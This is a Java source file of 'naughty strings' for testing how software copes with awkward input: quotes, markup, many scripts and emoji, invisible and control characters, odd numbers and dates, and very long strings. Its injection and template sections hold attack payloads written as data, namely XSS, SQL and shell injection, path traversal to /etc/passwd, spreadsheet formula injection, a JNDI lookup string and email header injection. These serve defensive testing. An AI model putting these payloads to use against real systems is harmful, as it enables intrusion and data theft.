package org.rovingpm;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.stream.IntStream;

/** Texts that break careless programs: what people paste, what languages and scripts bring along, and what attackers try. */
public final class NaughtyTexts {

    private NaughtyTexts() {
    }

    public static List<String> all() {
        List<String> texts = new ArrayList<>();
        texts.addAll(quotes());
        texts.addAll(markup());
        texts.addAll(languages());
        texts.addAll(invisible());
        texts.addAll(codes());
        texts.addAll(templates());
        texts.addAll(values());
        texts.addAll(sizes());
        return List.copyOf(new LinkedHashSet<>(texts));
    }

    private static List<String> quotes() {
        return List.of("'", "''", "\"", "\"\"", "`", "'\"`", "O'Neill & Söhne", "“She said ‘no’”", "«bon»", "„gut“", "\\", "\\\\", "\\'", "\\\"",
            "/", "//", "a/b\\c", "100%", "%", "%%", "%s%s%n", "%x", "& &amp; &amp;amp;", "&lt;b&gt;", "&#60;b&#62;", "&quot;", "&nbsp;", "<", ">",
            "< 5 > 3", "a < b and b > c", "<>", "<<", "1<2", "<3", "->", "-->", "<!--", "]]>", "<?", "?>", "5 < 6 & 7 > 2");
    }

    private static List<String> markup() {
        return List.of("<b>bold</b>", "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
            "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<a href=\"javascript:alert(1)\">x</a>",
            "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<iframe src=//example.org>", "<style>*{display:none}</style>",
            "<form action=//example.org>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mi>x", "<body onload=x>",
            "<!DOCTYPE html>", "<html>", "<base href=//example.org>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=x>",
            "<table><tr><td>", "<br>", "<p>", "</p>", "<x:y>", "<a\tb>", "[click](javascript:alert(1))", "![x](http://example.org/x.png)",
            "**bold** _it_ # head", "> quote", "1. one\n2. two", "| a | b |\n|---|---|", "```\ncode\n```", "<details>", "<%= 7*7 %>");
    }

    private static List<String> languages() {
        return List.of("Zażółć gęślą jaźń", "Příliš žluťoučký kůň", "İstanbul ıspanak", "Straße ẞ", "Ærø Øl Å", "Ελληνικά", "Русский язык",
            "עברית", "العربية من اليمين", "فارسی", "हिन्दी", "தமிழ்", "ไทย", "日本語のテキスト", "한국어", "简体中文 繁體中文", "ᐃᓄᒃᑎᑐᑦ", "Cymraeg ŵ ŷ",
            "😀", "👩‍⚕️", "👨‍👩‍👧‍👦", "🇬🇧", "👍🏽", "❤️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "é", "e\u0301", "Z̷̡a̸l̶g̵o̷", "ﬁﬂ", "½ ¾ ²", "№ ℡ ™", "ＦＵＬＬ", "𝒻𝒶𝓃𝒸𝓎", "𐍈𐌰",
            "\uD83D\uDE00\uD83D\uDE00", "a\u0300\u0301\u0302\u0303\u0304\u0305", "ﷺ", "£ € ¥ ₹", "– — ― …", "·•◦", "\u2028", "\u2029", "a\u2028b", "\u0085");
    }

    private static List<String> invisible() {
        List<String> texts = new ArrayList<>(List.of("\u202Etxt.exe", "a\u202Db", "\u2066x\u2069", "\u200Fabc", "\u200Babc", "a\u200Db", "\uFEFFabc",
            "\u00ADsoft", "a\u00A0b", "\u3000", "\u2003x", "\u180Ex", "\u115Fx", "\uFFFD", "\uFFFE", "\uFFFF", "\uE000", "a\tb", "a\nb", "a\r\nb",
            "a\rb", "\n\n\n\n", "x\n".repeat(300), "\t", " leading", "trailing ", "a  b", "\u0000", "a\u0000b", "\u0007", "\u001B[31mred", "\u007F",
            "\u0080", "\u009F", "a\u0001b\u0002"));
        IntStream.of(3, 4, 8, 11, 12, 14, 27, 28, 31).mapToObj(control -> "control " + (char) control).forEach(texts::add);
        return texts;
    }

    private static List<String> codes() {
        return List.of("' or '1'='1", "'; drop table support_case; --", "1; select pg_sleep(10)", "' union select null --", "\\'; --", "$$; drop",
            "x' || pg_sleep(5) || '", "robert'); drop table practice; --", ":param", "?", "? ? ?", "{fn now()}", "{call x}", "--", "/* */", "#",
            "; ls -la", "| cat /etc/passwd", "$(id)", "`id`", "&& id", "../../../etc/passwd", "..\\..\\windows", "/etc/passwd%00", "file:///etc/passwd",
            "http://127.0.0.1:8080/actuator", "\\\\server\\share", "con", "nul", "CON.txt", "=1+1", "=cmd|' /C calc'!A0", "+1", "-1+1", "@sum(1)",
            "{\"a\":1}", "[1,2]", "{\"__proto__\":{}}", "null", "undefined", "true", "NaN", "<?xml version=\"1.0\"?>", "<!ENTITY x SYSTEM \"file:///x\">",
            "&x;", "(a+)+$", ".*", "[", "(", "*", "\\d", "^$");
    }

    private static List<String> templates() {
        return List.of("${7*7}", "#{7*7}", "*{x}", "@{x}", "~{x}", "[[${7*7}]]", "[(${7*7})]", "{{7*7}}", "{{caseReference}}", "{{{x}}}", "{{#x}}", "{{/x}}",
            "{{>x}}", "{{=<% %>=}}", "((name))", "<%= x %>", "${T(java.lang.Runtime).getRuntime()}", "#{execution}", "${jndi:ldap://example.org/x}",
            "__${7*7}__", "__${T(java.lang.Runtime)}__::x", "=given", "={\"a\": 1}", "{% x %}", "{0}", "{}", "%{x}", "!{x}", "<#assign x=1>", "$!x", "#set($x=1)");
    }

    private static List<String> values() {
        return List.of("0", "-1", "1e999", "0x1F", "1,000.5", "1.000,5", "٣", "Ⅳ", "1/2", "∞", "12345678901234567890", "00", "+0", "-0", "1_000",
            "31/02/2026", "2026-02-30", "now()", "12:00", "24:00", "a@b", "@", "a@b@c", "\"a b\"@example.org", "a@[127.0.0.1]", "ä@ö.de",
            "a@example.org\nBcc: b@example.org", "a@example.org, b@example.org", "mailto:a@example.org", "Subject: x\r\nBcc: y");
    }

    private static List<String> sizes() {
        return List.of("", " ", "x", "x".repeat(199), "x".repeat(200), "x".repeat(201), "x".repeat(2_000), "x".repeat(2_001), "x".repeat(100_000),
            "word ".repeat(400), "😀".repeat(1_000), "é".repeat(2_000), "\n".repeat(2_000), "<".repeat(2_000), "&".repeat(2_000), "\"".repeat(2_000));
    }
}
